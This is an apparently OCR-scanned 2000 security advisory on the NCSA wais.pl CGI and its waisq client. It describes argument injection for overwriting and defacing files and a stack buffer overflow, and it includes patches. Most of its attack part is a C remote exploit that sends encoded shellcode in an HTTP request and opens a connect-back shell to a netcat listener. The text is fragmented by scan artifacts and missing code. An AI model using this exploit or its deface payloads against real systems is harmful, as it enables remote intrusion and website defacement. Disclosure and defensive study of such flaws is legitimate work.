Type packetstorm
Reporter synnergy
Modified 2000-08-14T00:00:00


                                            ` ***
+ Wais.pl parameter passing security problem +
# Another fine advisory by Scrippie #
* Cheers to: zsh, Synnergy, phreak.nl *
| Lots of Love to: Maja, Hester |
---[ The CGI ]---
The wais.pl CGI written by Tony Sanders <sanders@bsdi.com> provides means to
access the waisq WAIS client via the webserver.
---[ The Source ]---
First of all I will show you a bit of offending code in wais.pl:
open(WAISQ, "-|") || exec ($waisq, "-c", $waisd,
"-f", "-", "-S", "$src.src", "-g", @query);
Since WAISQ is opened like this, silly stuff like shell characters will not
work, we can, however, write extra command line parameters to waisq in our
query array. This can be done because the information we provide the CGI is
passed to exec($waisq) as an array, which perl expands to command line
parameters to the called program. If a scalar would have been used, this
wouldn't be the case.
It seems that waisq allows us to specify a file that contains a WAIS question
by using the -f parameter. One of the strange things is that waisq seems to
do the following:
if(dosearch == TRUE) {
if((qfilename == NULL) || (strcmp(qfilename, "-") == 0))
WriteQuestionfp(stdout, question);
WriteQuestion(qfilename, question);
So, waisq does not only read it's question from the file, but will also write
the question to the same file, effectively ruining any older contents.
Back to the perl source:
@query contains our optional search keywords, which we can fill in ourselves.
This means we can write a bunch of mess and our own string to any file owned
by the uid the webserver runs CGI scripts with (the file must exist).
---[ They call me the Wild Rose ]---
Suppose we do something like:
echo "Thanks for all the fish" > test.htm
cat test.htm
-> Thanks for all the fish
wais.pl -f test.htm "Elisa Day"
cat test.htm
We'll get thefollowing:
:version 2
:seed-words "Elisa Day "
( )
:sourcepath "/root/wais-sources/:./"
( (:source-id
:filename "www.src"
:maximum-results 40
( )
Not good eh?
HTML tags are as easily submitted in this manner as regular text is.
We could do something like:
wais.pl -f t.html -g `printf "<HTML> <BODY> <H1> Test </H1><X> </BODY> </HTML>
<\x21--" `
Of course, while using wais.pl via the browser we should convert our tags to
the %ascii notation.
Sadly, we still get the:
:version 2
lines that ruin our nice deface...
But wait, something like:
<META HTTP-EQUIV=Refresh CONTENT=0;URL=http://www.goatse.cx>
Will redirect us immediatly to our favourite clan of the goat site.
Ah, this seems somewhat better, if we know the absolute path of index.html we
could deface the server without ever being on the box...
---[ It's getting better (all the time)]---
Well, the previously described problem doesn't seem to scary, since most files
aren't writeable by user nobody and the nasty header is in the way and any
webmaster chowning his pages to "nobody" should have his head examined.
More interesting is the fact that the waisq client contains a buffer overflow
inthe following piece of code:
Boolean ReadSourceFile(asource, filename, directory)
Source asource;
char *filename, *directory;
FILE *fp;
char pathname[MAX_FILENAME_LEN+1];
Boolean result;
strncpy(pathname, directory, MAX_FILENAME_LEN);
strncat(pathname, filename, MAX_FILENAME_LEN);
Both "directory" and "filename" is input provided by the user to waisq by
the command line parameters "-s" and "-t". MAX_FILENAME_LEN is defined as
255 bytes in "cutil.h". We can clearly see that our target buffer can beoverflown by 254 bytes.
For the remote overflow I choose to combine the injection vector and the
payload (a bad choice as it turned out, but it worked), they are delicatly
intertwined in the exploit. The first buffer is used as the "NOP sled" buffer
while the second one contains the payload (which may not contain a lot of
metacharacters, I used smegma_v0.5 - written by me - to get rid of them). We
can also see that 4 bytes of our buffer get ruined, because somewhat later in
the code the FILE* fp is filled in - I joined the two buffer together by
jumping a few bytes forward at the end of "pathname" using 0xeb 0x08 and some
NOPS (it can also be done using 0xeb 0x04, but I used a few NOPS to provide
some more "space" for thislittle trick).
The final exploit is included at the end of this article.
---[ The patches ]---
I included the patches for completeness sake, they are so trivial anyone will
probably hand-code them before reverting to use these.
The patch for waisq
--- source.old.c Sun Aug 13 23:41:40 2000
+++ source.c Sun Aug 13 23:41:57 2000
@@ -328,7 +328,7 @@
char *filename, *directory;
FILE *fp;
- char pathname[MAX_FILENAME_LEN+1];
+ char pathname[MAX_FILENAME_LEN*2+1];
Boolean result;
strncpy(pathname, directory, MAX_FILENAME_LEN);
The patch for wais.pl
--- wais.old.pl Sun Aug 13 23:46:51 2000
+++ wais.pl Sun Aug 13 23:47:21 2000
@@ -37,7 +37,7 @@
print "Content-type: text/html\n\n";
open(WAISQ, "-|") || exec ($waisq, "-c", $waisd,
- "-f", "-", "-S", "$src.src", "-g", @query);
+ "-f", "-", "-S", "$src.src", "-g", $pquery);
print "<HEAD>\n<TITLE>Search of ", $title, "</TITLE>\n</HEAD>\n";
print "<BODY>\n<H1>", $title, "</H1>\n";
---[ Conclusion ]---
People should not only be worrying about escaping all the shell characters, but
also about command line parameters one might pass to the CGI.
- will be a nice addition to the standard bunch of shell characters to escape
when coding a CGI. So far so good, one of the last NCSA CGI scripts has been
found to be vulnerable to attack, I had a lot of fun with it.
Cheers and take care!
Scrippie - ronald@grafix.nl
---[ Added remote exploit for Linux ]---OnWaisKlote.c - NCSA wais.pl + waisq remote overflow - by Scrippie
This program is meant as a PoC exploit - I don't think anyone will
go and find a Linux machine running the wais.pl CGI and the waisqbackend client at the same time.
However, there are enough SunOS@Sparcs out there which do.
Thanx to dvorak for pointing out this smash after I located the formatting
problem in wais.pl
The shellcode makes a connetion to the given IP and spawns a shell on port
27002. It's recommended to have a listening netcat ready on this port.
Ie. do a "nc -l -p 27002" on your machine, and run the exploit on the target
If everything works out, it'll connect and spawn a shell.
Shouts go out to:
sk8, JimJones, ragnarok, f0bic, dvorak, guidob, dethy, dugo,
ratcorpse, futant, and everyone on #!/bin/zsh I haven't mentioned
mixter, Lamagra, prizm-, slash, cruci, {}, and all ex-b0f people
#hit2000, #phreak.nl, #linuxasm and of course Synnergy.net
Big fuck to:
#hax - Skill will never make up for arrogance and basic unfriendliness
flyahh - For being the biggest script-kid I know
Love to:
Maja (I can't explain how happy I am now you're coming tothe
Hester (you're my dearest friend)
-- Scrippie/ronald@grafix.nl
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/types.h>
#define FORBIDDEN "\x00\x09\x0b\x0c\r\n{};<>\\^()*[]$`&#~|\""
#define SZ_SOURCEBUF 256
#define SZ_FILEBUF 256
#define RETADDY 0xbffff910 /* Works on my cute `lil box */
int wwwconnect(unsigned long ip);
int ICinInt(long, char *, size_t);
char *buildOverflow(unsigned long, unsigned int);
void *xmalloc(size_t);
Shellcode written by: Scrippie :)
Smegma v0.5 ridded this shellcode of the following characters:
For this purpose a xor mask of 0x92011e11 was bruteforced
char hellcode[] =
/* The IP address to connect to is gonna be at 0xAAAAAAAA *//* Make sure it's encoded just as the shellcode is */
int main(int argc, char **argv)
char *iploc, *evilcode;
int sd, align=0;
unsigned long sip; /* IP to connect back to */
unsigned long dip; /* Target IP */
unsigned long retaddy=RETADDY; /* Default return address */
/* Whee, print the banner */
if(argc < 3) {
printf("OnWais Klote - Scrippie/Synnergy Networks\n");
printf("Use as: %s <target> <IP to connect back to> [ret addy] [align]\n",
printf("+ OnWais Klote - Scrippie/Synnergy.net +\n");
/* I know inet_addr() is obsolete - too bad, you can't run this
program when you're on - who is anyway? */
if((dip = inet_addr(argv[1])) == -1) {
printf("Error: Non valid IP address specified\n");
if((sip = inet_addr(argv[2])) == -1) {
printf("Error: Non valid IP address specified\n");
/* Use specified return address */if(argc > 3) {
retaddy = strtoul(argv[3], NULL, 16);
printf("Return address : 0x%lx\n", retaddy);
/* Use specified alignment */
if(argc > 4) {
align = atoi(argv[4]);
printf("Alignment : %d\n", align);
printf("Target : %s\n\n", argv[1]);
/* We convert our IP to fit in the payload */
/* Think of this as a strange value? Think of the shellcode alignment */
sip ^= 0x1192011e;
/* Check if the given RETADDY won't ruin our payload */
if(ICinInt(retaddy, FORBIDDEN, sizeof(FORBIDDEN)-1)) {
printf("Error: Found illegal character in return address\n");
/* Check if the given IP won't ruin our shellcode */
if(ICinInt(sip, FORBIDDEN, sizeof(FORBIDDEN)-1)) {
printf("Error: Found illegal character in IP address\n");
/* Locate the IP position in the shellcode */
iploc=(char *)strchr(hellcode, 0xAA);
memcpy((void *) iploc, (void *) &sip, 4);
evilcode = buildOverflow(retaddy, align);
sd = wwwconnect(dip);
printf("Connected to %s\n", argv[1]);
printf("Proceeding to send evil code...\n");
send(sd, evilcode, strlen(evilcode), 0);
char *buildOverflow(unsigned long retaddy, unsigned int align)
char source[SZ_SOURCEBUF];
char *smash, *output;
int c;
smash = (char *)xmalloc(SZ_FILEBUF+align+1);
output = (char *)xmalloc(SZ_SOURCEBUF+SZ_FILEBUF+align+1);
for(c=0;c<SZ_SOURCEBUF-2;c++) source[c] = 0x90;
source[253] = 0xeb; /* Jump over few bytes between arrays on stack */source[254] = 0x08;
source[255] = 0x00;
Directory and Sourcename follow each other on stack closely
There are a few arbitrary bytes between them, therefore we
jump over them with 0xeb 0x08 and land somewhere in the given NOPS
memset(smash, 0x90, 7+align);
/* Few nops on the stack - waisq ruins some bytes */
smash[7+align] = 0xeb; /* Jump over the EIP that we overflow */
smash[8+align] = 0x04; /* It's 4 bytes big */
/* Return address gets choked in here */
memcpy(smash+9+align, &retaddy, 4);
smash[13+align] = 0x00; /* strcat() needs the delimiter :) */
strcat(smash, hellcode); /* Copy the shellcode */
sprintf(output, "GET /cgi-bin/wais.pl?-s+%s+-t+%s HTTP/1.0\n\n",source, smash); /* Stuff it all on the heap */
return(output); /* And return the pointer there */
Connects to a webserver
"ip" is expected to be in network byte orderint wwwconnect(unsigned long ip)struct sockaddr_in sa; /* Sockaddr */
int sd; /* Socket Descriptor */
if((sd = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP)) == -1) {
memset(&sa, 0x00, sizeof(struct sockaddr_in));
if(connect(sd, &sa, sizeof(struct sockaddr_in)) == -1) {
This function checks for illegal bytes in "long" types
int ICinInt(long s, char *forbidden, size_t fsize)
int i,j;
for(i=0;i<fsize;i++) {
for(j=0;j<sizeof(long);j++) {
if((char)(s >> j*8) == forbidden[i]) return(1);
Wrapper for malloc() that does error checking
void *xmalloc(size_tsize)
void *blah;
if((blah = malloc(size)) == NULL) {